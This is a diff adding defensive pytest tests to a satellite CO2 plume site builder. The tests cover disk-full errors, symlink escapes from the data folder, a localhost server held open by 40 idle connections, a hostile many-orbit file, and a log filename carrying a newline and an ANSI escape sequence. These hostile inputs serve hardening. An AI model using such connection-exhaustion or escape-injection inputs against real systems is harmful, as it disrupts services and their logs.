+        raise OSError(errno.ENOSPC, "No space left on device", str(tmp_path / ".site.tmp-0123abcd" / "index.html"))
+
+    monkeypatch.setattr("builder.build.publish_site", full)
+    code, out, err = run_cli(["--config", str(cfg), "build"])
+    assert code == 2 and "disk full while writing index.html" in err and "internal error" not in err, err
+    assert str(tmp_path) not in err
+
+
+def test_symlinks_out_of_the_data_folder_are_not_followed(tmp_path):
+    from builder.soundings import find_input_files
+
+    outside = tmp_path / "elsewhere"
+    theirs = write_plume_files(outside, PLUMES[1:2])[0]
+    obs = tmp_path / "oco2"
+    mine = write_plume_files(obs, PLUMES[:1])[0]
+    (obs / "link.nc4").symlink_to(theirs)
+    (obs / "linked-folder").symlink_to(outside, target_is_directory=True)
+    (obs / "inside-link.nc4").symlink_to(mine)  # a link within the folder is fine
+    names = sorted(p.name for p in find_input_files(obs))
+    assert names == sorted([mine.name, "inside-link.nc4"]), names
+
+
+def test_serve_threads_are_bounded_and_idle_connections_dropped(tmp_path):
+    import socket
+    import threading
+    import time
+    import urllib.request
+
+    from builder.render.serve import start
+
+    (tmp_path / "index.html").write_text("<html><body>ok</body></html>")
+    base = threading.active_count()
+    server, stop = start(tmp_path, 0, lambda: None, [], interval=60, max_threads=4, idle_timeout=0.5)
+    port = server.server_address[1]
+    socks = []
+    try:
+        for _ in range(40):  # half-open: connect, never send a request
+            socks.append(socket.create_connection(("127.0.0.1", port)))
+        time.sleep(0.2)
+        assert threading.active_count() <= base + 2 + 4, threading.active_count()
+        time.sleep(1.0)  # idle timeout: the held connections are dropped, the server serves again
+        body = urllib.request.urlopen(f"http://127.0.0.1:{port}/index.html", timeout=5).read()
+        assert b"ok" in body
+    finally:
+        for s in socks:
+            s.close()
+        stop.set()
+        server.shutdown()
+        server.server_close()
+
+
+def test_a_file_with_thousands_of_orbit_numbers_is_split_without_per_orbit_work(plume_env, tmp_path, monkeypatch):
+    """7,200 soundings, each with its own orbit number (a broken or hostile file): one sort, no
+    detection work for one-sounding tracks; every sounding is still accounted for."""
+    import time
+
+    import builder.detect as det_mod
+    from builder.pipeline import process_file
+
+    _, cfg, sources, profiles = plume_env
+    cols = plume_columns(*PLUMES[0][0:1], *PLUMES[0][2:])
+    n = len(cols["orbit"])
+    cols["orbit"] = np.arange(n)[::-1]  # reversed: tracks must still come out in orbit order
+    path = write_lite(tmp_path / "oco2_LtCO2_180801_B11210Ar_orbits.nc4", cols)
+    calls = []
+    real = det_mod.detect_track
+    monkeypatch.setattr(det_mod, "detect_track", lambda t, c: calls.append(1) or real(t, c))
+    t0 = time.perf_counter()
+    res = process_file(path, cfg, sources, profiles.emission_kg_s)
+    assert time.perf_counter() - t0 < 60
+    assert calls == [] and len(res.tracks) == n and int(res.tracks["n_soundings"].sum()) == n
+    assert res.tracks["orbit"].tolist() == sorted(res.tracks["orbit"].tolist())
+
+
+def test_an_implausible_overpass_is_not_plotted_on_its_source_page(tmp_path):
+    from builder.render.urls import source_page
+
+    obs = tmp_path / "oco2"
+    obs.mkdir()
+    day, inst, orbit, lat0, lon0, seed = PLUMES[0]
+    cols = plume_columns(day, orbit, lat0, lon0, seed)
+    cols["windspeed_u_met"] = np.full(len(cols["xco2"]), 47.0)
+    write_lite(obs / "oco2_LtCO2_180801_B11210Ar_250101000000s.nc4", cols)
+    write_cities(tmp_path / "cities.csv", with_bad=False)
+    cfg = write_config(tmp_path, extra_inventories=[f"cities:{tmp_path / 'cities.csv'}"])
+    code, out, err = run_cli(["--config", str(cfg), "build"])
+    assert code == 0, err
+    page = (tmp_path / "site" / source_page(plume_city_id(0)) / "index.html").read_text(encoding="utf-8")
+    assert "implausible (in the downloads only)" in page and "implausible (wind 47 m/s" in page
+    assert ">plume<" not in page and "plume (deblended)" not in page
+    ovp = pd.read_csv(tmp_path / "site" / source_page(plume_city_id(0)) / f"{plume_city_id(0)}-overpasses.csv")
+    assert ovp["flag_implausible"].all() and np.isfinite(ovp["emission_kg_s"]).all()  # kept in the download
+
+
+def test_log_lines_escape_control_characters():
+    import logging
+
+    from builder.cli import PrintableFormatter
+
+    rec = logging.LogRecord("atlas", logging.WARNING, __file__, 1, "cannot read %s", ("a\nb\x1b[31m.nc4",), None)
+    line = PrintableFormatter("atlas: %(message)s").format(rec)
+    assert line == "atlas: cannot read a\\nb\\x1b[31m.nc4"
